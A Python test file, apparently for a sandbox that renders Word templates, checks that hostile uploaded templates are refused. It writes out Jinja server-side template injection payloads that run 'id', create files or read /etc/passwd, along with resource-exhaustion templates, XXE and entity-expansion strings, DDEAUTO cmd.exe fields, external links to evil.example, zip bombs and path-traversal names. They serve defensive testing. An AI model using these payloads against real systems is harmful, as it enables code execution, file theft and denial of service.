"""Templates come from outside: none may run anything, take long, take much, or fetch something."""

import tempfile
import time
import zipfile
from io import BytesIO
from pathlib import Path

import pytest

from caminemos.documents.api import render_docx
from caminemos.documents.sandbox.package import inspect
from caminemos.documents.sandbox.run import fill
from caminemos.documents.tests.conftest import sample
from caminemos.kernel.api import Refused

OWNED = Path(tempfile.gettempdir()) / "caminemos-owned"
CODE = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ title.__class__ }}",
    "{{ ''['__class__'] }}",
    "{{ self.__init__.__globals__ }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('touch OWNED').read() }}",
    "{{ joiner.__init__.__globals__ }}",
    "{{ namespace.__init__.__globals__ }}",
    "{{ request.application.__globals__ }}",
    "{{ ().__class__.__base__.__subclasses__()[40]('/etc/passwd').read() }}",
    "{{ ''|attr('__class__') }}",
    "{{ facts.append('x') }}{{ facts.__class__.__name__ }}",
    "{{ '%s'.format.__self__.__class__ }}",
    "{{ '{0.__class__.__mro__}'.format('') }}",
    "{{ title.format_map({}).__class__ }}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% extends '/etc/passwd' %}",
    "{{ range(10) }}",
    "{{ '<w:instrText>INCLUDEPICTURE x</w:instrText>'|safe }}",
    "{{ dict().__class__.__base__ }}",
    "{{ url_for.__globals__ }}",
    "{{ config }}",
    "{% set x = title.__init__ %}{{ x.__globals__ }}",
    "{%p for c in [].__class__.__base__.__subclasses__() %}{{ c }}{%p endfor %}",
    "{{ caller() }}",
    "{{ (title|string).join.__self__.__class__ }}",
]
GREEDY = {
    "loop": (
        "{% for a in 'x'*9999 %}{% for b in 'x'*9999 %}{% for c in 'x'*9999 %}{% endfor %}{% endfor %}{% endfor %}",
        "template_time",
    ),
    "power": ("{{ 9**(9**9) }}", "template_time"),
    "memory": ("{{ 'x' * 10**11 }}", "template_memory"),
    "recursion": ("{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}", "template_failed"),
    "flood": ("{% for a in 'x'*30000 %}{{ 'y' * 30000 }}{% endfor %}", "template_memory"),
}


def rebuilt(content: bytes, **changes: bytes | None) -> bytes:
    """Return the package with parts replaced or added."""
    file = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as old, zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in changes:
                new.writestr(name, old.read(name))
        for name, part in changes.items():
            if part is not None:
                new.writestr(name, part)
    return file.getvalue()


def part(content: bytes, name: str) -> bytes:
    with zipfile.ZipFile(BytesIO(content)) as package:
        return package.read(name)


def code_of(content: bytes) -> str:
    with pytest.raises(Refused) as refusal:
        inspect(content)
    assert str(refusal.value.sentence)
    return refusal.value.code


@pytest.mark.parametrize("attack", CODE)
def test_code_between_braces_runs_nowhere(attack, template):
    with pytest.raises(Refused) as refusal:
        render_docx(sample(), template("Informe", attack.replace("OWNED", str(OWNED)), "{{ body }}"))
    assert refusal.value.code.startswith("template_")
    assert "/etc/passwd" not in str(refusal.value.sentence).replace(attack, "")
    assert not OWNED.exists()


@pytest.mark.parametrize("name", sorted(GREEDY))
def test_greedy_templates_are_stopped(name, template):
    attack, code = GREEDY[name]
    began = time.monotonic()
    with pytest.raises(Refused) as refusal:
        render_docx(sample(), template(attack, "{{ body }}"))
    assert refusal.value.code in {code, "template_memory", "template_time"}
    assert time.monotonic() - began < 20


def test_an_unknown_name_says_which_and_where(template):
    with pytest.raises(Refused) as refusal:
        render_docx(sample(), template("Uno", "Fecha: {{ fecha_de_corte }}", "{{ body }}"))
    sentence = str(refusal.value.sentence)
    assert refusal.value.code == "template_unknown"
    assert "fecha_de_corte" in sentence
    assert "Fecha: {{ fecha_de_corte }}" in sentence
    assert "2" in sentence


def test_a_mistake_between_braces_says_where(template):
    with pytest.raises(Refused) as refusal:
        render_docx(sample(), template("Uno", "Dos", "{% if title %} sin cierre", "{{ body }}"))
    assert refusal.value.code == "template_syntax"
    with pytest.raises(Refused) as refusal:
        render_docx(sample(), template("Uno", "Dos", "{{ title | }}", "{{ body }}"))
    assert "{{ title | }}" in str(refusal.value.sentence)


def test_a_template_without_a_place_for_the_body_is_refused(template):
    with pytest.raises(Refused) as refusal:
        render_docx(sample(), template("{{ title }}"))
    assert refusal.value.code == "template_no_body"
    assert "{{ body }}" in str(refusal.value.sentence)


def test_what_is_not_word_is_refused(template):
    assert code_of(b"") == "template_not_word"
    assert code_of(b"PK\x03\x04 broken") == "template_not_word"
    assert code_of(b"%PDF-1.7") == "template_not_word"
    assert code_of(template("x")[:-200]) == "template_not_word"
    assert code_of(b"x" * (5 * 1024 * 1024 + 1)) == "template_too_large"
    assert code_of(rebuilt(template("x"), **{"word/document.xml": None})) == "template_not_word"


def test_macros_and_embedded_programs_are_refused(template):
    plain = template("x")
    assert code_of(rebuilt(plain, **{"word/vbaProject.bin": b"x"})) == "template_macros"
    assert code_of(rebuilt(plain, **{"word/embeddings/oleObject1.bin": b"x"})) == "template_macros"
    assert code_of(rebuilt(plain, **{"word/activeX/activeX1.xml": b"<a/>"})) == "template_macros"
    types = part(plain, "[Content_Types].xml")
    macro = types.replace(
        b"vnd.openxmlformats-officedocument.wordprocessingml.document.main", b"vnd.ms-word.document.macroEnabled.main"
    )
    assert macro != types
    assert code_of(rebuilt(plain, **{"[Content_Types].xml": macro})) == "template_macros"


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "https://evil.example/t.dotm"),
        ("attachedTemplate", "file:///C:/t.dotx"),
        ("image", "http://evil.example/p.png"),
        ("image", "\\\\evil\\share\\x.png"),
        ("hyperlink", "file:///c:/x"),
        ("oleObject", "x.bin"),
        ("subDocument", "file:///x"),
    ],
)
def test_parts_from_elsewhere_are_refused(kind, target, template):
    plain = template("x")
    rels = part(plain, "word/_rels/document.xml.rels")
    kind = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
    entry = f'<Relationship Id="rId99" Type="{kind}" Target="{target}" TargetMode="External"/>'
    changed = rels.replace(b"</Relationships>", entry.encode() + b"</Relationships>")
    assert code_of(rebuilt(plain, **{"word/_rels/document.xml.rels": changed})) in {"template_outside", "template_macros"}


def test_entities_are_refused(template):
    plain = template("x")
    for told in (
        b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE a [<!ENTITY l "lol"><!ENTITY m "&l;&l;&l;">]>',
        b"<!DOCTYPE a>",
    ):
        document = part(plain, "word/document.xml").replace(b"?>", b"?>" + told, 1)
        assert code_of(rebuilt(plain, **{"word/document.xml": document})) == "template_entities"


@pytest.mark.parametrize(
    "field", ["DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe", 'INCLUDETEXT "http://x"', "INCLUDEPICTURE x", "MACROBUTTON x"]
)
def test_fields_that_fetch_or_run_are_refused_even_in_pieces(field, template):
    plain = template("x")
    pieces = f"<w:r><w:instrText>{field[:4]}</w:instrText></w:r><w:r><w:instrText>{field[4:]}</w:instrText></w:r>"
    document = part(plain, "word/document.xml").replace(b"<w:r>", pieces.encode() + b"<w:r>", 1)
    assert code_of(rebuilt(plain, **{"word/document.xml": document})) == "template_field"


def test_bombs_and_wandering_names_are_refused(template):
    plain = template("x")
    assert code_of(rebuilt(plain, **{"word/media/a.bin": b"\0" * (29 * 1024 * 1024)})) == "template_bomb"
    assert code_of(rebuilt(plain, **{f"word/media/{n}": b"" for n in range(600)})) == "template_bomb"
    for name in ("../../evil", "/etc/cron.d/x", "word\\..\\x", "C:/x", "word/../../x"):
        assert code_of(rebuilt(plain, **{name: b"x"})) == "template_path"


def test_a_link_inside_the_package_is_refused(template):
    file = BytesIO(template("x"))
    with zipfile.ZipFile(file, "a") as package:
        link = zipfile.ZipInfo("word/link")
        link.external_attr = 0o120777 << 16
        package.writestr(link, "/etc/passwd")
    assert code_of(file.getvalue()) == "template_damaged"


def test_the_child_knows_no_secret_of_the_parent(monkeypatch, template):
    monkeypatch.setenv("CAMINEMOS_SECRET_KEY", "geheim")
    filled = fill(template("{{ title }}"), {"title": "hola"})
    assert b"geheim" not in filled


def test_headers_and_footnotes_are_confined_as_well():
    from docx import Document

    document = Document()
    document.add_paragraph("{{ body }}")
    document.sections[0].header.paragraphs[0].add_run("{{ ''.__class__ }}")
    file = BytesIO()
    document.save(file)
    with pytest.raises(Refused) as refusal:
        render_docx(sample(), file.getvalue())
    assert refusal.value.code == "template_forbidden"
